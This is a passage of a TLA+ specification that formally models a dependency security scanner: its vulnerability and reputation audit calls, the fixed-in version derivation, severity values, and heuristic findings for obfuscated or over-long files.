(* Termination of the audit phase                                          *)
(***************************************************************************)
\* a scan about to start its audit, of a project with two direct dependencies
InitLive ==
    /\ skipAudit = FALSE
    /\ packageJsonFound = TRUE
    /\ manifestOk = TRUE
    /\ manifestDeps = 2
    /\ lockDeps \in {NoLock, 1}
    /\ osv \in [Probe(DepsToScan(lockDeps, manifestOk, manifestDeps)) -> {<<>>, <<"A">>}]
    /\ packages = 0
    /\ InitVulnVars
    /\ InitRepVars
    /\ spc = "files-done"
    /\ depsToScan = 0
    /\ allFindings = <<>>
    /\ IdleSeverity
    /\ IdleRepCall
    /\ IdleManifest
    /\ IdleDedup
    /\ IdleUnits

\* every outbound call settles (answered, failed or timed out: network.ts
\* lines 46, 67, 126 and 139 each await one request with a timeout) and the
\* event loop runs a continuation that is ready: while some step of the scan
\* can be taken, one eventually is
FairScan == WF_vars(Next)

SpecLive == InitLive /\ [][Next]_vars /\ FairScan

C20_DetailRequestedOnce ==
    \A a, b \in 1..Len(detailLog) : detailLog[a] = detailLog[b] => a = b

(***************************************************************************)
(* auditDependencies (network.ts 13-36)                                    *)
(***************************************************************************)
\* lines 13-18: the call; checkVulnerabilitiesBatch is called and awaited
AuditDependencies ==
    /\ apc = "called"
    /\ CallVuln(packages)
    /\ apc' = "vuln"
    /\ UNCHANGED <<detailLog, queue, detailRunning, repVars, inputVars, scanVars,
                   sevVars, repCallVars, manifestVars, dedupVars>>
    /\ UNCHANGED <<lockVars, fallbackVars, contentVars, filesVars, cliVars, popularVars,
                   fixedInVars>>

\* lines 19-28: the vulnerability check has returned; below the ceiling one
\* reputation lookup per package is submitted to the limiter and awaited
AuditReputation ==
    /\ apc = "vuln"
    /\ vpc = "done"
    /\ queue' = queue \o [k \in 1..(IF packages < ReputationCeiling THEN packages ELSE 0)
                             |-> RepTask]
    /\ apc' = "rep"
    /\ UNCHANGED <<vulnVars, detailLog, detailRunning, repVars, inputVars, scanVars,
                   sevVars, repCallVars, manifestVars, dedupVars>>
    /\ UNCHANGED <<lockVars, fallbackVars, contentVars, filesVars, cliVars, popularVars,
                   fixedInVars>>

\* lines 28-35: every reputation lookup has returned; the call returns
AuditReturn ==
    /\ apc = "rep"
    /\ ~RepQueued
    /\ repMeta = 0
    /\ repDl = 0
    /\ apc' = "returned"
    /\ UNCHANGED <<vulnVars, detailLog, queue, detailRunning, repVars, inputVars, scanVars,
                   sevVars, repCallVars, manifestVars, dedupVars>>
    /\ UNCHANGED <<lockVars, fallbackVars, contentVars, filesVars, cliVars, popularVars,
                   fixedInVars>>

\* auditDependencies(packages) called on its own
InitAudit ==
    /\ packages \in {0, 1, 2, ReputationCeiling}
    /\ osv \in [Probe(packages) -> StubIdLists]
    /\ InitVulnVars
    /\ InitRepVars
    /\ spc = "none"
    /\ skipAudit = FALSE
    /\ packageJsonFound = FALSE
    /\ manifestOk = FALSE
    /\ manifestDeps = 0
    /\ lockDeps = NoLock
    /\ depsToScan = 0
    /\ allFindings = <<>>
    /\ IdleSeverity
    /\ IdleRepCall
    /\ IdleManifest
    /\ IdleDedup
    /\ apc = "called"
    /\ IdleLock
    /\ IdleFallback
    /\ IdleContent
    /\ IdleFiles
    /\ IdleCli
    /\ IdlePopular
    /\ IdleFixedIn

NextAudit ==
    \/ AuditDependencies
    \/ BatchFailed
    \/ BatchAnswered
    \/ LimiterStartDetail
    \/ DetailFetched
    \/ DetailFailed
    \/ ChunkEmit
    \/ AuditReputation
    \/ LimiterStartRep
    \/ RepMetaFailed
    \/ RepMetaAnswered
    \/ RepDownloadsSettled
    \/ AuditReturn

SpecAudit == InitAudit /\ [][NextAudit]_vars

\* ---- properties
\* the reputation lookups submitted to the limiter so far: queued, running or
\* returned
RepSubmitted ==
    Cardinality({k \in 1..Len(queue) : queue[k].kind = "rep"}) + repMeta + repDl + repDone

\* the reputation lookups the audit is to make
RepDue ==
    IF apc /= "none" THEN (IF packages < ReputationCeiling THEN packages ELSE 0)
    ELSE DirectDepsNames(manifestOk, manifestDeps)

\* C21: once the first batch query of the vulnerability path has been issued,
\* every reputation lookup of the audit has been submitted, whatever has
\* completed since; and before it none has.  So both paths start in the same
\* step and neither waits for the completion of the other.
C21_PathsStartTogether ==
    /\ posted /= <<>> => RepSubmitted = RepDue
    /\ (posted = <<>> /\ vpc \in {"idle", "post"}) => RepSubmitted = 0

\* the file loop has files left to scan
FilesRemain == spc = "files" /\ fi <= Len(files)

\* an outbound call of the audit has been issued or a lookup submitted
AuditStarted == posted /= <<>> \/ RepSubmitted > 0

\* no call of the audit is issued before the file loop has ended
AuditAfterFiles == spc \in {"cli", "files", "files-done"} => (~AuditStarted /\ InFlight = 0)

\* C22: when the root manifest has been scanned and declares a dependency,
\* and the audit is not skipped, the audit is under way while the files that
\* come later in the sequence are still to be scanned
C22_AuditOverlapsFileScan ==
    (FilesRemain /\ packageJsonFound /\ ~skipAudit /\ RootDeps(files) > 0) => AuditStarted

(***************************************************************************)
(* The fixed-in derivation (network.ts 155-172)                            *)
(***************************************************************************)
\* line 155: let fixedIn = 'Unknown'
Unknown == <<"Unknown">>

\* the UTF-16 code unit of a character of a version string
CodeUnit(c) ==
    CASE c = "." -> 46
      [] c = "0" -> 48
      [] c = "1" -> 49
      [] c = "9" -> 57

\* a comparison by the number before the first dot
GreaterByMajor(a, b) ==
    LET major(v) == CHOOSE k \in 0..Len(v) :
                        /\ \A j \in 1..k : v[j] /= "."
                        /\ k < Len(v) => v[k + 1] = "."
    IN  \/ major(a) > major(b)
        \/ /\ major(a) = major(b)
           /\ \E i \in 1..major(a) :
                 /\ CodeUnit(a[i]) > CodeUnit(b[i])
                 /\ \A j \in 1..(i - 1) : a[j] = b[j]

\* line 163: event.fixed > fixedIn on two strings: the comparison of their
\* code units from the left, a proper prefix being the smaller
RECURSIVE StringGreater(_, _)
StringGreater(a, b) ==
    IF a = <<>> THEN FALSE
    ELSE IF b = <<>> THEN TRUE
    ELSE IF Head(a) /= Head(b) THEN CodeUnit(Head(a)) > CodeUnit(Head(b))
    ELSE StringGreater(Tail(a), Tail(b))

\* an event of a range: {introduced: version} or {fixed: version}
Event(kind, version) == [kind |-> kind, version |-> version]

\* lines 159-168: the events of one range, in order
RECURSIVE FixedOfEvents(_, _)
FixedOfEvents(events, cur) ==
    IF events = <<>> THEN cur
    ELSE LET e == Head(events)
         IN  FixedOfEvents(Tail(events),
                 IF e.kind = "fixed" /\ (cur = Unknown \/ StringGreater(e.version, cur))
                     THEN e.version ELSE cur)

\* lines 158-169: the ranges of one affected entry, in order
RECURSIVE FixedOfRanges(_, _)
FixedOfRanges(ranges, cur) ==
    IF ranges = <<>> THEN cur
    ELSE FixedOfRanges(Tail(ranges),
             IF Head(ranges).hasEvents THEN FixedOfEvents(Head(ranges).events, cur)
             ELSE cur)

\* lines 156-171: the affected entries, in order
RECURSIVE FixedOfAffected(_, _)
FixedOfAffected(list, cur) ==
    IF list = <<>> THEN cur
    ELSE FixedOfAffected(Tail(list),
             IF Head(list).hasRanges THEN FixedOfRanges(Head(list).ranges, cur)
             ELSE cur)

\* lines 155-172
FixedIn(aff) == IF aff.present THEN FixedOfAffected(aff.list, Unknown) ELSE Unknown

\* the derivation applied to the advisory
DeriveFixedIn ==
    /\ xpc = "idle"
    /\ fixedIn' = FixedIn(affected)
    /\ xpc' = "done"
    /\ UNCHANGED <<affected, outsideFixedIn>>

\* the advisories explored: up to two affected entries of up to two ranges,
\* with and without the optional fields
Versions == {<<"9", ".", "0">>, <<"1", "0", ".", "0">>}

Events == {Event("introduced", <<"0">>)} \cup {Event("fixed", v) : v \in Versions}

Ranges ==
    {[hasEvents |-> TRUE, events |-> e] : e \in SeqsUpTo(Events, MaxEvents)}
    \cup {[hasEvents |-> FALSE, events |-> <<>>]}

AffectedEntries ==
    {[hasRanges |-> TRUE, ranges |-> r] : r \in SeqsUpTo(Ranges, 2)}
    \cup {[hasRanges |-> FALSE, ranges |-> <<>>]}

InitFixedIn ==
    /\ affected \in {[present |-> TRUE, list |-> l] : l \in SeqsUpTo(AffectedEntries, 2)}
                    \cup {[present |-> FALSE, list |-> <<>>]}
    /\ fixedIn = <<>>
    /\ xpc = "idle"
    /\ IdleOutsideFixedIn

SpecFixedIn == InitFixedIn /\ [][DeriveFixedIn]_vars

\* ---- properties
\* the versions of the fixed events of the advisory
FixedVersions ==
    IF ~affected.present THEN {}
    ELSE {affected.list[a].ranges[r].events[e].version :
             <<a, r, e>> \in
                {t \in (1..2) \X (1..2) \X (1..(MaxEvents + 1)) :
                    /\ t[1] <= Len(affected.list)
                    /\ affected.list[t[1]].hasRanges
                    /\ t[2] <= Len(affected.list[t[1]].ranges)
                    /\ affected.list[t[1]].ranges[t[2]].hasEvents
                    /\ t[3] <= Len(affected.list[t[1]].ranges[t[2]].events)
                    /\ affected.list[t[1]].ranges[t[2]].events[t[3]].kind = "fixed"}}

\* a precedes b in the order of plain string comparison
StringLess(a, b) ==
    \E i \in 1..(Len(b)) :
        /\ \A j \in 1..(i - 1) : j <= Len(a) /\ a[j] = b[j]
        /\ \/ i = Len(a) + 1
           \/ i <= Len(a) /\ CodeUnit(a[i]) < CodeUnit(b[i])

EntropyFindings == {k \in 1..Len(findings) : findings[k].name = "High Entropy"}

\* C24: for a text of at most 1 MiB in a file that is not JSON and that the
\* parser rejects, analyzeContent returns, with no syntax-tree finding, and
\* with exactly the heuristic findings of the text: one Massive Line Length
\* finding for the first line over 1000 characters when there is one, and one
\* High Entropy finding when the text is obfuscated
C24_ParseErrorKeepsHeuristics ==
    (cpc = "done" /\ ~file.isJson /\ ContentLength(content) <= AstSizeLimit
        /\ ~content.parses) =>
        /\ \A k \in 1..Len(findings) : findings[k].type = "Heuristic"
        /\ Cardinality(MassiveFindings) = IF SomeLineOver THEN 1 ELSE 0
        /\ \A k \in MassiveFindings :
              findings[k].content.length = content.lines[FirstLineOver].len
        /\ Cardinality(EntropyFindings) = IF content.obfuscated THEN 1 ELSE 0
        /\ Len(findings) = Cardinality(MassiveFindings) + Cardinality(EntropyFindings)

\* a rejected, obfuscated text that calls eval and has a line of 2000
\* characters was analysed: it has its two heuristic findings
C24_Witness ==
    /\ cpc = "done"
    /\ ~file.isJson
    /\ ~content.parses
    /\ content.obfuscated
    /\ content.lines = <<Run(1, 20, 2, <<"eval(">>), Run(1, 2 * LongLineThreshold, 0, <<>>)>>
    /\ astRan
    /\ Len(findings) = 2

(***************************************************************************)
(* The severity of a finding is one of the four declared values            *)
(***************************************************************************)
SeverityLevels == {"critical", "high", "medium", "low"}

\* C25: the severity derived for an advisory, whatever its shape and whatever
\* the database-supplied severity string, is one of critical, high, medium, low
C25_SeverityInEnum ==
    sevResult /= Absent => sevResult \in SeverityLevels

(***************************************************************************)
(* The manifest's dependencies are audited whatever the lockfile yields    *)
(***************************************************************************)
\* C26: once scanDirectory has passed the audit block, with the audit not
\* skipped and a scanned root manifest that declares at least one dependency
\* with a string version, checkVulnerabilitiesBatch was called with a
\* non-empty list, whatever the lockfile yielded
C26_ManifestDepsAudited ==
    (spc \in {"audit", "returned"} /\ ~skipAudit /\ packageJsonFound
        /\ manifestOk /\ manifestDeps > 0) =>
        /\ packages > 0
        /\ vpc /= "idle"

=============================================================================
